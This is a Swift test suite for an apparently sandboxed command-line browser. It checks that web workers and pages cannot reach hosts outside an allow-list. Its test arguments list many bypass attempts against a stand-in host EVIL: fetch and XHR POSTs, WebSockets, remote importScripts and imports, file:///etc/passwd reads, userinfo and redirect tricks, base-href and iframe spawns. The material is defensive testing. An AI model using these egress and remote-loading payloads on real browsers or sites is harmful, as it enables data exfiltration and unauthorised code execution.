import Foundation
import TestSupport
import Testing

/// No request of a worker leaves the list, and no worker outside of the list is started: neither by
/// its address, a redirect, an import, a socket, nor by one worker inside another.
@Suite("Doors of workers") struct WorkerDoorTests {
    /// What a worker has: the answers go to the page, which shows them.
    private static let tools = """
        const done = (t) => self.postMessage(t);
        const get = (url, init) => fetch(url, init).then(
          async r => done('GOT ' + r.type + ' ' + await r.text()), () => done('REFUSED'));
        const xhr = (method, url, body, set) => { const x = new XMLHttpRequest();
          x.onload = () => done('GOT ' + x.responseText); x.onerror = () => done('REFUSED');
          x.open(method, url); if (set) set(x); x.send(body) };
        const sock = (url, ...more) => { try { const s = new WebSocket(url, ...more);
          s.onopen = () => done('GOT'); s.onmessage = e => done('GOT ' + e.data);
          s.onclose = e => done('REFUSED ' + e.code) } catch (e) { done('REFUSED ' + e.name) } };
        const bring = (...urls) => { try { importScripts(...urls); done('GOT') }
          catch (e) { done('REFUSED ' + e.name) } };
        const spawn = (url, options) => { try { const w = new Worker(url, options);
          w.onmessage = e => done(e.data); w.onerror = e => { e.preventDefault(); done('REFUSED') } }
          catch (e) { done('REFUSED ' + e.name) } };
        const blob = (text) => URL.createObjectURL(new Blob([text]));
        """
    private static let page = """
        <body><p>SHOWN</p><script>
        const done = t => {
          const p = document.createElement('p'); p.append(t); document.body.append(p) };
        const spawn = (url, options) => { try { const w = new Worker(url, options);
          w.onmessage = e => done(e.data); w.onerror = e => { e.preventDefault(); done('REFUSED') };
          return w } catch (e) { done('REFUSED ' + e.name) } };
        const blob = (text) => URL.createObjectURL(new Blob([text]));
        """

    private func expectRefused(_ scenario: Scenario, page body: String, _ headers: String = "")
        async throws
    {
        scenario.servers.page(
            "/\(scenario.id)", scenario.filled(Self.page + body + "</script>"),
            type: "text/html; charset=utf-8", headers: headers)
        scenario.servers.route(
            "/\(scenario.id)-to-evil",
            "HTTP/1.1 307 Moved\r\nAccess-Control-Allow-Origin: *\r\nLocation: "
                + scenario.filled("http://EVIL/x")
                + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        let result = try await scenario.garth(
            rules: ["GOOD", "ALSO"], ["--dump", "--javascript", "on", "http://GOOD/ID"])
        #expect(result.output.contains("SHOWN"), "\(result)")
        #expect(result.output.contains("REFUSED"), "\(result)")
        #expect(!result.output.contains("GOT"), "\(result)")
        #expect(!result.output.contains("root:"))
        #expect(result.status == 0)
        scenario.expectNoTrespass()
    }

    @Test("a worker asks, and nobody outside of the list is asked", arguments: doorsOfWorkers)
    func workers(door: String) async throws {
        let scenario = Scenario()
        scenario.servers.page(
            "/\(scenario.id)-worker", scenario.filled(Self.tools + door), type: "text/javascript",
            headers: "")
        try await expectRefused(scenario, page: "spawn('/ID-worker')")
    }

    @Test("a worker of a blob asks, and nobody outside is asked", arguments: doorsOfWorkers)
    func blobs(door: String) async throws {
        let scenario = Scenario()
        let text = (Self.tools + door).replacingOccurrences(of: "`", with: "'")
            .replacingOccurrences(of: "\\", with: "\\\\")
        try await expectRefused(scenario, page: "spawn(blob(`\(text)`))")
    }

    @Test("a page starts workers, and nobody outside of the list is asked", arguments: doorsOfPages)
    func pages(door: String) async throws {
        let scenario = Scenario()
        scenario.servers.page(
            "/\(scenario.id)-text", "postMessage('GOT')", type: "text/plain", headers: "")
        for path in ["module", "deep"] {
            scenario.servers.page(
                "/\(scenario.id)-\(path)",
                scenario.filled(
                    path == "module"
                        ? "import 'http://EVIL/a.js'; postMessage('GOT')"
                        : "import './ID-module'; postMessage('GOT')"),
                type: "text/javascript", headers: "")
        }
        try await expectRefused(scenario, page: door)
    }

    @Test(
        "a policy of the page decides which workers there are",
        arguments: [
            "worker-src 'none'", "child-src 'none'", "script-src 'unsafe-inline'",
            "default-src 'unsafe-inline'", "worker-src http://also.test", "worker-src https:",
        ])
    func policies(policy: String) async throws {
        let scenario = Scenario()
        scenario.servers.page(
            "/\(scenario.id)-worker", "postMessage('GOT')", type: "text/javascript", headers: "")
        try await expectRefused(
            scenario, page: "spawn('/ID-worker'); spawn(blob('postMessage(\"GOT\")'))",
            "Content-Security-Policy: \(policy)\r\n")
    }

    @Test("a worker of a blob has the policies of its page")
    func inheritedPolicies() async throws {
        let scenario = Scenario()
        try await expectRefused(
            scenario,
            page: "spawn(blob(`fetch('http://GOOD/ID').then(() => postMessage('GOT'),"
                + " () => postMessage('REFUSED'));"
                + " try { eval('1'); postMessage('GOT') } catch { postMessage('REFUSED') }`))",
            "Content-Security-Policy: script-src 'unsafe-inline' blob:; connect-src 'none'\r\n")
    }

    static let doorsOfWorkers = [
        "get('http://EVIL/a')",
        "get('http://EVIL/a', { method: 'POST', body: 'b', mode: 'no-cors', keepalive: true })",
        "get('http://EVIL/a', { method: 'PUT', headers: { 'X-A': 'b' } })",
        "get('http://GOODNAME@EVIL/')",
        "get('http://GOOD/ID-to-evil')",
        "get('http://ALSO/ID-to-evil', { mode: 'no-cors' })",
        "get('http://127.0.0.9:PORT/')",
        "get('http://localhost:PORT/')",
        "get('file:///etc/passwd')",
        "xhr('GET', 'http://EVIL/a')",
        "xhr('POST', 'http://EVIL/a', 'b', x => { x.withCredentials = true })",
        "const x = new XMLHttpRequest(); x.open('GET', 'http://EVIL/', false);"
            + "try { x.send(); done('GOT') } catch (e) { done('REFUSED') }",
        "sock('ws://EVIL/')",
        "sock('wss://EVIL/')",
        "sock('ws://GOODNAME:22/')",
        "for (let i = 0; i < 50; i++) sock('ws://EVIL/' + i)",
        "setTimeout(() => sock('ws://EVIL/late'), 500)",
        "const e = new EventSource('http://EVIL/'); e.onmessage = () => done('GOT');"
            + " e.onerror = () => { e.close(); done('REFUSED') }",
        "bring('http://EVIL/a.js')",
        "bring('http://GOOD/ID-to-evil')",
        "bring('http://ALSO/ID-to-evil')",
        "bring('file:///etc/passwd')",
        "bring(blob('importScripts(\"http://EVIL/a.js\")'))",
        "import('http://EVIL/a.js').then(() => done('GOT'), () => done('REFUSED'))",
        "spawn('http://EVIL/a.js')",
        "spawn('http://GOOD/ID-to-evil')",
        "spawn(blob('importScripts(\"http://EVIL/a.js\"); postMessage(\"GOT\")'))",
        "spawn(blob('import \"http://EVIL/a.js\"; postMessage(\"GOT\")'), { type: 'module' })",
        "spawn(blob('fetch(\"http://EVIL/\").then(() => postMessage(\"GOT\"),"
            + " () => postMessage(\"REFUSED\"))'))",
        "new BroadcastChannel('c').postMessage('http://EVIL/');"
            + " Object.prototype.url = 'http://EVIL/'; get('http://EVIL/')",
    ]

    static let doorsOfPages = [
        "spawn('http://EVIL/w.js')",
        "spawn('http://EVIL/w.js', { type: 'module' })",
        "spawn('//EVIL/w.js', { credentials: 'include' })",
        "spawn('http://ALSO/ID-text')",
        "spawn('http://GOODNAME@EVIL/w.js')",
        "spawn('http://127.0.0.9:PORT/w.js')",
        "spawn('/ID-to-evil')",
        "spawn('/ID-text')",
        "spawn('/ID-module', { type: 'module' })",
        "spawn('/ID-deep', { type: 'module' })",
        "spawn('file:///etc/passwd')",
        "spawn('blob:http://EVIL/5b1d0e2c-0000-4000-8000-000000000000')",
        "spawn('data:text/javascript,fetch(`http://EVIL/`).then(() => postMessage(`GOT`),"
            + " () => postMessage(`REFUSED`))')",
        // The origin of such a worker is that of no server.
        "spawn('data:text/javascript,fetch(`http://GOOD/ID`).then(() => postMessage(`GOT`),"
            + " () => postMessage(`REFUSED`))')",
        "const w = spawn(blob('onmessage = () => fetch(\"http://EVIL/\")'));"
            + " w.postMessage(1); w.terminate(); done('REFUSED')",
        "for (let i = 0; i < 40; i++) spawn('http://EVIL/' + i)",
        "document.head.innerHTML = '<base href=http://EVIL/>'; spawn('w.js')",
        "const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';"
            + " f.srcdoc = '<script>new Worker(\"http://EVIL/\")</scr' + 'ipt>';"
            + " document.body.append(f); spawn('http://EVIL/')",
    ]
}
